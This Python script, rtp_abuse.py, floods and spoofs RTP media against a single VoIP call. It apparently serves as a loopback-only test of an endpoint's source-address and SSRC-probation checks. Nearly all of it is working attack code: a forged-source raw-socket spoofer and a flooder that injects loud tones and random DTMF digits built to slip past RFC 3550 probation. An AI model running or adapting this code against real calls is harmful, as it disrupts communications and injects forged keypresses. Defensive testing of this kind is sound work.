#!/usr/bin/env python3
"""rtp_abuse.py — an RTP flooder and an RTP spoofer against one call (loopback).

  rtp_abuse.py --target 127.0.0.1:PORT [--seconds 3]
               [--flood-rate 2000] [--spoof-from 127.0.0.1:PORT --spoof-rate 500]

Both send, for --seconds, packets that would disturb the call if accepted:
PCMU audio of a full-scale 1000 Hz tone and RFC 4733 end-of-event packets
(payload type 101) with random digits 0-15.

flooder: from its own UDP port (not the caller's) at --flood-rate packets/s,
  alternately one steady stream (one SSRC, consecutive sequence numbers: it
  would pass SSRC probation, so only the source-address check stops it) and
  packets with a new random SSRC each.
spoofer: with --spoof-from, packets whose source address is the caller's RTP
  address (a raw IPv4 socket with IP_HDRINCL: root only), at --spoof-rate
  packets/s, each with a new random SSRC and sequence number: only SSRC
  probation (RFC 3550 §A.1) stops them. It first checks that a spoofed packet
  really arrives with the forged source (SPOOF selfcheck ok|failed: ...);
  without a raw socket it sends from the caller's IP and another port
  (SPOOF mode=port).

Prints  FLOOD sent=N refused=N  and  SPOOF mode=raw|port sent=N; refused counts
ICMP port-unreachable answers (nothing listened on the target). At most
(flood-rate + spoof-rate) * seconds packets; --seconds <= 10, rates <= 5000/s.
"""
import argparse
import math
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import sipmsg  # noqa: E402


def ulaw(sample):
    """G.711 mu-law of a 16-bit sample."""
    sign = 0x80 if sample < 0 else 0
    s = min(-sample if sample < 0 else sample, 32635) + 0x84
    exp = 7
    mask = 0x4000
    while exp > 0 and not s & mask:
        exp -= 1
        mask >>= 1
    mant = (s >> (exp + 3)) & 0x0F
    return ~(sign | (exp << 4) | mant) & 0xFF


# 20 ms frames of a full-scale 1000 Hz tone (8 frames make a whole period set).
TONE = [bytes(ulaw(int(30000 * math.sin(2 * math.pi * 1000 * (f * 160 + i) / 8000)))
              for i in range(160)) for f in range(8)]


def rtp(pt, seq, ts, ssrc, payload, marker=False):
    return struct.pack("!BBHII", 0x80, (0x80 if marker else 0) | pt, seq & 0xFFFF,
                       ts & 0xFFFFFFFF, ssrc) + payload


def event(digit):
    """An RFC 4733 end-of-event payload: digit, E bit, volume 10, 100 ms."""
    return struct.pack("!BBH", digit, 0x80 | 10, 800)


def disturbing(n, seq, ts, ssrc):
    """Packet n of a disturbing stream: every 5th a digit event, else tone."""
    if n % 5 == 4:
        return rtp(101, seq, ts, ssrc, event(random.randrange(16)), marker=True)
    return rtp(0, seq, ts, ssrc, TONE[n % 8])


def udp_ip(src, dst, payload):
    """An IPv4 + UDP datagram from src to dst (UDP checksum 0: none)."""
    udp = struct.pack("!HHHH", src[1], dst[1], 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64,
                     socket.IPPROTO_UDP, 0, socket.inet_aton(src[0]),
                     socket.inet_aton(dst[0]))
    return ip + udp


class Spoofer:
    def __init__(self, src):
        self.src, self.mode = src, "port"
        try:
            self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            self.mode = "raw"
        except OSError as e:
            print(f"SPOOF no raw socket ({e}): sending from another port", flush=True)
            self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.udp.bind((src[0], 0))

    def send(self, payload, dst):
        if self.mode == "raw":
            self.raw.sendto(udp_ip(self.src, dst, payload), (dst[0], 0))
        else:
            self.udp.sendto(payload, dst)

    def selfcheck(self):
        """Does a spoofed packet arrive with the forged source address?"""
        if self.mode != "raw":
            return "mode=port"
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.bind(("127.0.0.1", 0))
        probe.settimeout(1.0)
        try:
            self.send(b"selfcheck", probe.getsockname())
            data, src = probe.recvfrom(100)
        except OSError as e:
            return f"failed: {e}"
        finally:
            probe.close()
        if data != b"selfcheck" or src != self.src:
            return f"failed: got {data!r} from {src}"
        return "ok"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", type=sipmsg.loopback_addr, required=True)
    ap.add_argument("--seconds", type=float, default=3.0)
    ap.add_argument("--flood-rate", type=int, default=2000)
    ap.add_argument("--spoof-from", type=sipmsg.loopback_addr)
    ap.add_argument("--spoof-rate", type=int, default=500)
    a = ap.parse_args()
    a.seconds = min(a.seconds, 10.0)
    a.flood_rate = max(0, min(a.flood_rate, 5000))
    a.spoof_rate = max(0, min(a.spoof_rate, 5000))

    flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flood.connect(a.target)  # ICMP port unreachable shows as ECONNREFUSED
    spoof = Spoofer(a.spoof_from) if a.spoof_from else None
    if spoof:
        print(f"SPOOF selfcheck {spoof.selfcheck()}", flush=True)

    steady = [random.getrandbits(32), random.getrandbits(16), 0]  # ssrc, seq, ts
    counts = {"sent": 0, "refused": 0, "spoofed": 0}

    def flood_to(due: int) -> None:
        while counts["sent"] < due:
            n = counts["sent"]
            if n % 2 == 0:
                pkt = disturbing(n, steady[1], steady[2], steady[0])
                steady[1], steady[2] = steady[1] + 1, steady[2] + 160
            else:
                pkt = disturbing(n, random.getrandbits(16), random.getrandbits(32),
                                 random.getrandbits(32))
            try:
                flood.send(pkt)
            except ConnectionRefusedError:
                counts["refused"] += 1
            counts["sent"] += 1

    def spoof_to(due: int) -> None:
        while spoof and counts["spoofed"] < due:
            spoof.send(disturbing(counts["spoofed"], random.getrandbits(16), random.getrandbits(32),
                                  random.getrandbits(32)), a.target)
            counts["spoofed"] += 1

    # Paced in 10 ms steps; whatever a late wake-up left unsent goes at the
    # end, so that the counts are exact (seconds x rate) on a loaded machine.
    t0 = time.monotonic()
    tick = 0.01
    while True:
        elapsed = time.monotonic() - t0
        if elapsed >= a.seconds:
            break
        flood_to(int(min(elapsed + tick, a.seconds) * a.flood_rate))
        spoof_to(int(min(elapsed + tick, a.seconds) * a.spoof_rate))
        time.sleep(tick)
    flood_to(round(a.seconds * a.flood_rate))
    spoof_to(round(a.seconds * a.spoof_rate))
    sent, refused, spoofed = counts["sent"], counts["refused"], counts["spoofed"]
    try:  # a last refusal arrives after the last send
        flood.send(b"")
    except ConnectionRefusedError:
        refused += 1
    print(f"FLOOD sent={sent} refused={refused} seconds={time.monotonic() - t0:.2f}", flush=True)
    if spoof:
        print(f"SPOOF mode={spoof.mode} sent={spoofed}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
